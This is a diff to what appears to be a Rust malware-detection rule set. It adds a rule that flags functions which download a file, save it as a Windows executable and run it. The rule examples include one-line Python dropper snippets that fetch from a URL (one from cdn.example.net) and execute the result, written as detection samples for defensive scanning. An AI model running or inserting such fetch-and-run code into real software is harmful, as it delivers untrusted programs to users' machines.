@@ -221,6 +221,16 @@ correlation!(
     "def color(): r = requests.get('https://cdn.example.net/x'); open(p, 'wb').write(r.content); subprocess.run([p])"
 );
 correlation!(
+    FUNCTION_EXE_DROPPER,
+    "correlate/function-runs-downloaded-program",
+    High,
+    Download,
+    Some("T1105"),
+    "One function downloads, saves the download under a Windows program's name (.exe, .scr, .bat, .vbs, .ps1) and starts a program.",
+    "Fetching a program, saving it and starting it in one place is the whole of a Windows dropper; the program's name says that what runs is what was fetched.",
+    "def update(url): urlretrieve(url, 'helper.exe'); subprocess.run(['helper.exe'])"
+);
+correlation!(
     FUNCTION_RECON,
     "correlate/function-host-data-to-network",
     High,
@@ -275,6 +285,7 @@ correlation!(
 pub static ALL: &[&RuleInfo] = &[
     &FUNCTION_DROPPER,
     &FUNCTION_FIXED_HOST_DROPPER,
+    &FUNCTION_EXE_DROPPER,
     &FUNCTION_FETCH_EXEC,
     &FUNCTION_RECON,
     &FUNCTION_EXFILTRATION,
@@ -325,6 +336,9 @@ pub fn function_correlations(tags: &BTreeSet<String>) -> Vec<&'static RuleInfo> 
         if has("url-literal") || has("fixed-endpoint") {
             out.push(&FUNCTION_FIXED_HOST_DROPPER);
         }
+        if has("exe-name") {
+            out.push(&FUNCTION_EXE_DROPPER);
+        }
     }
     if has("network") && (has("sysinfo") || has("env-dump")) {
         out.push(&FUNCTION_RECON);
@@ -353,6 +367,7 @@ pub fn evidence_tags(rule: &RuleInfo) -> &'static [&'static str] {
         id if id == IMPORT_TIME_BACKGROUND.id => &["inline-code", "detached"],
         id if id == FUNCTION_DROPPER.id => &["file-write", "process", "persistence"],
         id if id == FUNCTION_FIXED_HOST_DROPPER.id => &["url-literal", "fixed-endpoint"],
+        id if id == FUNCTION_EXE_DROPPER.id => &["exe-name"],
         id if id == FUNCTION_DECODE_EXEC.id => &["exec", "decode"],
         id if id == FUNCTION_FETCH_EXEC.id => &["exec", "network"],
         id if id == INSTALL_PROCESS.id => &["process"],
